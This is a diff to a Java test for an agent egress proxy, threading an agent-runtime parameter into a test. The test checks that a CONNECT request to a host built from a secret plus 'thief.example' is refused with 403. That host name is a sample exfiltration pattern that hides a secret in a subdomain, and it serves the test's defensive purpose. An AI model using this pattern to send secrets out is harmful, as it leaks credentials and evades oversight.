@@ -2,6 +2,7 @@ package drover.pipeline;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import drover.config.AgentRuntime;
 import drover.egress.Egress;
 import drover.egress.EgressDoor;
 import drover.ledger.EventRecord;
@@ -31,7 +32,8 @@ class EgressRecordTest {
     try (BeanBench bench = BeanBench.in(folder);
         Egress egress =
             new Egress(bench.settings(""), new NothingButPrivate(), bench.journal::tell)) {
-      try (EgressDoor door = egress.open(bench.run.claim(), "publisher", folder)) {
+      try (EgressDoor door =
+          egress.open(bench.run.claim(), "publisher", AgentRuntime.CLAUDE, folder)) {
         String name = BeanBench.SECRET + ".thief.example:443";
         assertThat(ask(door, "CONNECT " + name + " HTTP/1.1\r\n\r\n")).startsWith("HTTP/1.1 403 ");
       }
